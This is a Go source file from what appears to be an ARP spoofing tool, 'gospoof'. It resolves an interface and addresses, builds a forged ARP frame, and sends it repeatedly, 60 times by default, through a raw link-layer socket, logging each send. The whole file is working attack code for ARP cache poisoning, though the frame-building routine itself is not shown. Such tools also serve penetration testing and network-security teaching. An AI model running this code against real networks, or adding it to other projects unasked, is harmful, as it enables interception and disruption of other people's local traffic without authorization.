package spoof

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"time"

	"github.com/terassyi/gospoof/pkg/interfaces"
	"github.com/terassyi/gospoof/pkg/ioctl"
	"github.com/terassyi/gospoof/pkg/logger"
	"github.com/terassyi/gospoof/pkg/packet/ethernet"
)

const (
	DefaultCount    = 60
	DefaultInterval = time.Second
)

// Conn sends whole link-layer frames.
type Conn interface {
	Send(frame []byte) error
	Close() error
}

// Opener opens a link-layer connection on the interface index.
type Opener func(index int, src ethernet.HardwareAddress) (Conn, error)

// IndexResolver maps an interface name to its index.
type IndexResolver func(name string) (int, error)

// HostResolver is satisfied by *net.Resolver.
type HostResolver interface {
	LookupIP(ctx context.Context, network, host string) ([]net.IP, error)
}

type Options struct {
	HardwareAddress ethernet.HardwareAddress
	SourceIP        string
	DestinationIP   string
	Interface       string

	// Count defaults to DefaultCount when zero.
	Count    int
	// Interval is the wait between consecutive sends. Zero sends back to back.
	Interval time.Duration
}

// Report is the number of frames actually sent against the plan.
type Report struct {
	Sent    int
	Planned int
}

type Spoofer struct {
	Open     Opener
	Index    IndexResolver
	Resolver HostResolver

	// OnFrame, when set, receives the frame once before the first send.
	OnFrame func(Frame)
	logger  *logger.Logger
}

func New(debug bool) *Spoofer {
	return &Spoofer{
		Open: func(index int, src ethernet.HardwareAddress) (Conn, error) {
			af, err := interfaces.OpenAfPacket(index, src)
			if err != nil {
				return nil, err
			}
			return af, nil
		},
		Index:    ioctl.Siocgifindex,
		Resolver: net.DefaultResolver,
		logger:   logger.New(debug, "spoof"),
	}
}

func (s *Spoofer) log() *logger.Logger {
	if s.logger == nil {
		s.logger = logger.New(false, "spoof")
	}
	return s.logger
}

// prepare resolves the interface index and both addresses and builds the frame.
// Nothing is opened.
func (s *Spoofer) prepare(ctx context.Context, opts Options) (int, Frame, error) {
	index, err := s.Index(opts.Interface)
	if err == nil && index <= 0 {
		err = fmt.Errorf("invalid index %d", index)
	}
	if err != nil {
		return 0, Frame{}, fmt.Errorf("%s: %v: %w", opts.Interface, err, ErrInterfaceNotFound)
	}
	s.log().Infof("the index of interface %q is: %d", opts.Interface, index)

	senderIP, err := parseSource(opts.SourceIP)
	if err != nil {
		return 0, Frame{}, err
	}
	targetIP, err := s.resolveDestination(ctx, opts.DestinationIP)
	if err != nil {
		return 0, Frame{}, err
	}
	return index, BuildFrame(opts.HardwareAddress, senderIP, targetIP), nil
}

// Send forges the frame for opts and writes it Count times, waiting Interval
// between sends. ctx is checked before every send; a send in progress is not
// interrupted. The first failed send ends the run with a *SendError.
func (s *Spoofer) Send(ctx context.Context, opts Options) (Report, error) {
	count := opts.Count
	if count <= 0 {
		count = DefaultCount
	}
	report := Report{Planned: count}

	index, frame, err := s.prepare(ctx, opts)
	if err != nil {
		return report, err
	}
	if s.OnFrame != nil {
		s.OnFrame(frame)
	}

	conn, err := s.Open(index, opts.HardwareAddress)
	if err != nil {
		return report, fmt.Errorf("%v: %w", err, ErrSocketCreation)
	}
	defer func() {
		if err := conn.Close(); err != nil {
			s.log().Errorf("failed to close socket: %v", err)
		}
	}()

	for i := 1; i <= count; i++ {
		if err := ctx.Err(); err != nil {
			return report, fmt.Errorf("%w after %d/%d frames: %w", ErrCanceled, report.Sent, count, err)
		}
		if err := conn.Send(frame[:]); err != nil {
			return report, &SendError{Attempt: i, Total: count, Err: err}
		}
		report.Sent++
		s.log().Infof("ARP %d/%d sent successfully", i, count)
		if i == count {
			break
		}
		if err := wait(ctx, opts.Interval); err != nil {
			return report, fmt.Errorf("%w after %d/%d frames: %w", ErrCanceled, report.Sent, count, err)
		}
	}
	s.log().Info("done sending ARP frames")
	return report, nil
}

func wait(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-timer.C:
		return nil
	}
}

// parseSource only accepts a dotted quad literal. The destination goes
// through the resolver instead, so it may also be a host name.
func parseSource(s string) ([4]byte, error) {
	addr, err := netip.ParseAddr(s)
	if err != nil {
		return [4]byte{}, fmt.Errorf("%q: %v: %w", s, err, ErrInvalidSourceAddress)
	}
	if !addr.Is4() {
		return [4]byte{}, fmt.Errorf("%q is not ipv4: %w", s, ErrInvalidSourceAddress)
	}
	return addr.As4(), nil
}

func (s *Spoofer) resolveDestination(ctx context.Context, host string) ([4]byte, error) {
	if host == "" {
		return [4]byte{}, fmt.Errorf("empty host: %w", ErrInvalidDestinationAddress)
	}
	ips, err := s.Resolver.LookupIP(ctx, "ip4", host)
	if err != nil {
		return [4]byte{}, fmt.Errorf("%q: %v: %w", host, err, ErrInvalidDestinationAddress)
	}
	for _, ip := range ips {
		if ip4 := ip.To4(); ip4 != nil {
			var addr [4]byte
			copy(addr[:], ip4)
			return addr, nil
		}
	}
	return [4]byte{}, fmt.Errorf("%q has no ipv4 address: %w", host, ErrInvalidDestinationAddress)
}
